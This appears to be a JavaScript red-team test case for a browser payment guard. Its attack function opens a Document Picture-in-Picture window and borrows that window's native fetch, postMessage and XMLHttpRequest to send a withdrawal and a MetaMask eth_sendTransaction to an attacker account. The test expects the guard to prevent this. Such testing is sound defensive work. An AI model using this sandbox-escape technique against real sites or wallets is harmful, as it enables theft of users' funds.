// E06: a picture-in-picture window of a document lends its natives, in the turn in which it is asked for, by the event and by the promise.
import { reachedServer, reachedWallet } from './logs.mjs';
import { shared } from './page-side.mjs';

/** Page side: borrows from every way to the window, at once and a moment later. */
export async function borrow(a) {
  const body = JSON.stringify({ to: a.EVIL });
  const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
  const data = { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 77, method: 'eth_sendTransaction', params } };
  const message = { target: 'metamask-contentscript', data };
  const got = [];
  const kept = [];
  const use = (how, lender) => {
    if (!lender) return;
    got.push(how);
    kept.push([lender.fetch.bind(lender), lender.postMessage.bind(window), lender.XMLHttpRequest]);
  };
  const picture = window.documentPictureInPicture;
  const windowOf = Object.getOwnPropertyDescriptor(DocumentPictureInPicture.prototype, 'window').get;
  const asked = new Promise((resolve) => {
    addEventListener(
      'click',
      () => {
        picture.addEventListener('enter', (event) => use('enter', event.window));
        const opened = picture.requestWindow({ width: 300, height: 200 });
        use('property', picture.window);
        use('getter', windowOf.call(picture));
        resolve(opened);
      },
      { once: true, capture: true },
    );
  });
  await new Promise((resolve) => setTimeout(resolve, 200));
  await payeeguardTest.hands('tap', '', '100,100');
  use('promise', await asked.catch(() => null));
  await new Promise((resolve) => setTimeout(resolve, 300));
  for (const [fetch, postMessage, Xhr] of kept) {
    await fetch(`${location.origin}/api/withdraw`, { method: 'POST', body }).catch(() => {});
    postMessage(message, '*');
    const request = new Xhr();
    request.open('POST', `${location.origin}/api/withdraw`);
    request.send(body);
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  picture.window?.close();
  return got;
}

const missing = 'has no Document Picture-in-Picture';

export default {
  id: 'E06',
  title: 'natives of a Document Picture-in-Picture window',
  source: 'own red team; LavaMoat Snow issue 79, behaviour only',
  level: 'prevented',
  engines: { firefox: missing, webkit: missing },
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  attack: shared(borrow),
  timeout: 30_000,

  async action(a) {
    const opened = new Promise((resolve, reject) => {
      addEventListener('click', () => window.documentPictureInPicture.requestWindow().then(resolve, reject), {
        once: true,
      });
    });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await payeeguardTest.hands('tap', '', '100,100');
    const small = await opened;
    small.document.body.textContent = 'paying';
    const same = window.documentPictureInPicture.window === small;
    const body = JSON.stringify({ amount: '5', to: a.GOOD });
    const response = await small.fetch(`${location.origin}/api/withdraw`, { method: 'POST', body });
    small.close();
    return [same, response.status];
  },

  stolen: ({ http, wallet, a }) => reachedServer(http, a.EVIL, '/api/withdraw') || reachedWallet(wallet, a.EVIL),
  arrived: ({ http, result, a }) => reachedServer(http, a.GOOD, '/api/withdraw') && result[0] === true,
  violation: (a) => ({ surface: 'fetch', role: 'payee', account: a.EVIL }),
};
